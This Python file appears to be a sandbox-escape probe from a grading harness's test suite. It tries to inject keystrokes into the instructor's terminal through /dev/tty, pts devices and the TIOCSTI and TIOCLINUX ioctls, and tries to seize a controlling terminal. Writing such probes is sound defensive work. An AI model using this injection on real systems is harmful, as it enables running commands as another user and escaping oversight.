# attack: Types commands into the terminal from which grading was started: /dev/tty, TIOCSTI, its standard streams.
# hurts: Runs commands as the instructor.
# never: typed|a terminal
# ends: returns
import fcntl
import os
import termios

from _raw import attempt

TIOCSTI, TIOCLINUX = 0x5412, 0x541C


def attack(target):
    tried = [attempt(path, opened, path) for path in ("/dev/tty", "/dev/tty1", "/dev/pts/0", "/dev/pts/1")]
    tried += [attempt(f"{number}", typed, number) for number in range(3)]
    return [*tried, attempt("controlling", fcntl.ioctl, 0, termios.TIOCSCTTY, 1)]


def opened(path):
    descriptor = os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
    try:
        return f"a terminal, {typed(descriptor)}"
    finally:
        os.close(descriptor)


def typed(descriptor):
    fcntl.ioctl(descriptor, TIOCLINUX, b"\x06")
    fcntl.ioctl(descriptor, TIOCSTI, b" ")
    return "typed"
